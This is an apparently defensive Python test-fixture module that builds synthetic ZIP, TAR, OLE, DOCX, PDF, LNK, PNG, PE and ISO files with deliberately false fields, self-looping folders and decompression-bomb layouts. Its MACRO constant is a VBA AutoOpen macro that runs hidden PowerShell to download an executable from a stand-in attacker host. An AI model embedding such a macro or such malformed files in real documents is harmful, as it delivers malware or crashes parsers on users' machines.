"""Files of every kind, made from nothing: none that is hostile is ever stored."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping

#: Source of a macro that starts by itself and fetches a program.
MACRO = (
    'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nDim s\r\nSet s = CreateObject("WScript.Shell")\r\n'
    's.Run "powershell -w hidden iwr http://drop.evil.example/a.exe"\r\nEnd Sub\r\n'
)
FREE, END = 0xFFFFFFFF, 0xFFFFFFFE


def zipped(files: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def raw_zip(
    entries: list[dict[str, int | bytes]], *, count: int | None = None, prefix: bytes = b"", comment: bytes = b""
) -> bytes:
    """A ZIP file whose every field can lie: `name`, `data`, `method`, `size`, `packed`, `flags`, `offset`."""
    body, central = bytearray(prefix), bytearray()
    for entry in entries:
        data, name = bytes(entry.get("data", b"")), bytes(entry.get("name", b"x"))
        flags, method = int(entry.get("flags", 0)), int(entry.get("method", 0))
        packed, size = int(entry.get("packed", len(data))), int(entry.get("size", len(data)))
        offset = int(entry.get("offset", len(body)))
        if "offset" not in entry:
            body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0, 0, packed, size, len(name), 0)
            body += name + data
        central += struct.pack(
            "<4sBBHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 3, 20, flags, method, 0, 0, 0, packed, size, len(name), 0, 0, 0,
            0, int(entry.get("mode", 0o100644)) << 16, offset,
        )  # fmt: skip
        central += name
    number = len(entries) if count is None else count
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, number, number, len(central), len(body), len(comment))
    return bytes(body) + bytes(central) + end + comment


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def tarred(files: Mapping[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return out.getvalue()


def ole(streams: Mapping[str, bytes], clsid: bytes = bytes(16)) -> bytes:
    """A compound file; every stream is small and lies in the mini stream. Paths have at most three parts."""
    names = sorted({"/".join(path.split("/")[:depth]) for path in streams for depth in range(1, path.count("/") + 2)})
    numbers = {name: i + 1 for i, name in enumerate(names)}
    mini, mini_table = bytearray(), list[int]()
    entries = [b""] * (len(names) + 1)
    for name in names:
        start, size, kind, child = END, 0, 1, FREE
        if name in streams:
            data = streams[name]
            start, size, kind = len(mini_table), len(data), 2
            sectors = max(1, -(-len(data) // 64))
            mini_table += [*range(start + 1, start + sectors), END]
            mini += data.ljust(sectors * 64, b"\0")
        children = [n for n in names if n.rpartition("/")[0] == name and "/" in n]
        child = numbers[children[0]] if children else FREE
        siblings = [n for n in names if n.rpartition("/")[0] == name.rpartition("/")[0]]
        place = siblings.index(name) + 1
        right = numbers[siblings[place]] if place < len(siblings) else FREE
        entries[numbers[name]] = _entry(name.rpartition("/")[2], kind, (right, child), (start, size))
    top = [n for n in names if "/" not in n]
    mini_sectors, table_sectors = -(-len(mini) // 512), -(-len(mini_table) * 4 // 512)
    directory_sectors = -(-len(entries) * 128 // 512)
    # Sectors in order: allocation table, directory, mini table, mini stream.
    fats = 1
    while fats * 128 < fats + directory_sectors + table_sectors + mini_sectors:
        fats += 1
    at_directory, at_table = fats, fats + directory_sectors
    at_mini = at_table + table_sectors
    entries[0] = _entry("Root Entry", 5, (FREE, numbers[top[0]] if top else FREE), (at_mini, len(mini)), clsid)
    table = [0xFFFFFFFD] * fats
    for length in (directory_sectors, table_sectors, mini_sectors):
        table += [*range(len(table) + 1, len(table) + length), END] if length else []
    fat = struct.pack(f"<{len(table)}I", *table).ljust(512 * fats, b"\xff")
    header = struct.pack(
        f"<8s16xHHHHH6xIIIIIIIII{fats}I", bytes.fromhex("d0cf11e0a1b11ae1"), 62, 3, 0xFFFE, 9, 6, 0, fats, at_directory,
        0, 4096, at_table, table_sectors, END, 0, *range(fats),
    )  # fmt: skip
    return b"".join(
        (
            header.ljust(512, b"\xff"), fat, b"".join(entries).ljust(directory_sectors * 512, b"\0"),
            struct.pack(f"<{len(mini_table)}I", *mini_table).ljust(table_sectors * 512, b"\xff"),
            bytes(mini).ljust(mini_sectors * 512, b"\0"),
        )
    )  # fmt: skip


def _entry(name: str, kind: int, links: tuple[int, int], lies: tuple[int, int], clsid: bytes = bytes(16)) -> bytes:
    text = name.encode("utf-16-le")
    (right, child), (start, size) = links, lies
    shape = "<64sHBBIII16s20xIQ"
    return struct.pack(shape, text, len(text) + 2, kind, 1, FREE, right, child, clsid, start, size)


def vba(source: str = MACRO) -> bytes:
    """A packed module, of literals only."""
    raw = source.encode("latin-1")
    out = bytearray(b"\x01")
    for start in range(0, len(raw), 3200):
        piece = raw[start : start + 3200]
        tokens = b"".join(b"\0" + piece[i : i + 8] for i in range(0, len(piece), 8))
        out += struct.pack("<H", 0xB000 | (len(tokens) - 1)) + tokens
    return bytes(out)


def macro_document(source: str = MACRO) -> bytes:
    project = {"Macros/VBA/dir": b"\x01", "Macros/VBA/_VBA_PROJECT": b"x" * 30}
    return ole({"WordDocument": bytes(600), **project, "Macros/VBA/ThisDocument": b"cache" * 30 + vba(source)})


def docx(extra: Mapping[str, bytes] | None = None, body: bytes = b"") -> bytes:
    document = b'<w:document xmlns:w="w"><w:body>' + body + b"</w:body></w:document>"
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document, **(extra or {})})


def pdf(*objects: bytes, header: bytes = b"%PDF-1.7\n", end: bytes = b"%%EOF\n") -> bytes:
    """Objects numbered from 1, with a right table; the first is the catalogue."""
    out, offsets = bytearray(header), list[int]()
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n" % (len(objects) + 1, start)
    return bytes(out) + end


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<" + dictionary + b" /Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def lnk(arguments: str = "", *, target: str = "", show: int = 1, tail: bytes = b"") -> bytes:
    flags = 0x80 | (0x20 if arguments else 0) | (0x08 if target else 0)
    header = struct.pack("<I16sI36xI12x", 76, bytes.fromhex("0114020000000000c000000000000046"), flags, show)
    out = bytearray(header)
    for text in (target, arguments):
        if text:
            out += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return bytes(out) + bytes(4) + tail


def png(width: int, height: int, tail: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"") + tail


def pe(sections: int = 1, tail: bytes = b"") -> bytes:
    dos = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64)
    optional = struct.pack("<H", 0x20B).ljust(112 + 16 * 8, b"\0")
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, sections, 1700000000, 0, 0, len(optional), 0x22)
    table = b"".join(struct.pack("<8sIIII16x", b"UPX0", 4096, 4096, 0, 512) for _ in range(min(sections, 96)))
    return (dos + coff + optional + table).ljust(512, b"\0") + tail


def iso(files: Mapping[str, bytes], *, loop: bool = False, whole: bool = False) -> bytes:
    """A disc image with one folder; with `loop` that folder holds itself, with `whole` every file is the image."""

    def record(name: bytes, sector: int, size: int, flags: int) -> bytes:
        both = struct.pack("<I", sector) + struct.pack(">I", sector) + struct.pack("<I", size) + struct.pack(">I", size)
        length = 33 + len(name) + (1 - len(name) % 2)
        return (bytes([length, 0]) + both + bytes(7) + bytes([flags, 0, 0, 1, 0, 0, 1, len(name)]) + name).ljust(
            length, b"\0"
        )

    sector, listing, data = 20, bytearray(), bytearray()
    for name, content in files.items():
        listing += record(name.encode(), 0, 20 * 2048, 0) if whole else record(name.encode(), sector, len(content), 0)
        padded = content.ljust(-(-len(content) // 2048) * 2048, b"\0")
        data += padded
        sector += len(padded) // 2048
    if loop:
        listing += record(b"AGAIN", 18, 2048, 2)
    volume = (b"\x01CD001\x01".ljust(156, b"\0") + record(b"\0", 18, 2048, 2)).ljust(2048, b"\0")
    terminator = b"\xffCD001\x01".ljust(2048, b"\0")
    return bytes(16 * 2048) + volume + terminator + bytes(listing).ljust(2048, b"\0") + bytes(2048) + bytes(data)
